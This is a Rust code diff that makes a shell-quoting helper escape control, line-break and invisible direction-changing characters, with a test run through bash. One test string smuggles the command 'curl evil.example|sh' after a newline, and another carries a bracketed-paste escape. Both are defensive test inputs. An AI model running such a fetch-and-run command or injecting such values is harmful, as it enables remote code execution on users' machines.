@@ -219,9 +219,31 @@ impl Sender {
     }
 }
 
-/// A text as one word for a shell.
+/// A text as one word for a shell, which may be pasted into a terminal. What a terminal takes for a command, and what
+/// hides a part of the text, is written as its bytes. That form has no quotation mark within, so a shell that does not
+/// know it runs nothing of it either.
 fn word(text: &str) -> String {
-    quoted(Path::new(text))
+    if !text.contains(is_for_terminals) {
+        return quoted(Path::new(text));
+    }
+    let mut word = String::from("$'");
+    for c in text.chars() {
+        if is_for_terminals(c) || matches!(c, '\'' | '\\') {
+            let mut bytes = [0; 4];
+            word.extend(c.encode_utf8(&mut bytes).bytes().map(|byte| format!("\\x{byte:02x}")));
+        } else {
+            word.push(c);
+        }
+    }
+    word.push('\'');
+    word
+}
+
+/// Whether a terminal or a person would take a character for something else: controls, line breaks, and the characters
+/// of no width that change the direction of a text.
+fn is_for_terminals(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
 }
 
 fn failed(error: impl std::fmt::Display) -> SendError {
@@ -275,4 +297,27 @@ where
         "body": scrub(&String::from_utf8_lossy(&bytes)),
         "whole": is_whole,
     }))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_word_has_nothing_that_a_terminal_takes_for_a_command() {
+        for (text, written) in [
+            ("users/alice", "users/alice"),
+            ("a'b $(c) \u{e9}", r"'a'\''b $(c) \u{e9}'"),
+            ("x\u{3}\ncurl evil.example|sh\n#", r"$'x\x03\x0acurl evil.example|sh\x0a#'"),
+            ("\u{1b}[201~'\\", r"$'\x1b[201~\x27\x5c'"),
+            ("\u{7f}\u{9b}", r"$'\x7f\xc2\x9b'"),
+            ("a\u{2028}\u{202e}b", r"$'a\xe2\x80\xa8\xe2\x80\xaeb'"),
+        ] {
+            let written = written.replace(r"\u{e9}", "\u{e9}");
+            assert_eq!(word(text), written, "{text:?}");
+            let script = format!("printf %s {written}");
+            let shell = std::process::Command::new("bash").arg("-c").arg(script).output().unwrap();
+            assert_eq!(shell.stdout, text.as_bytes(), "{written}");
+        }
+    }
 }
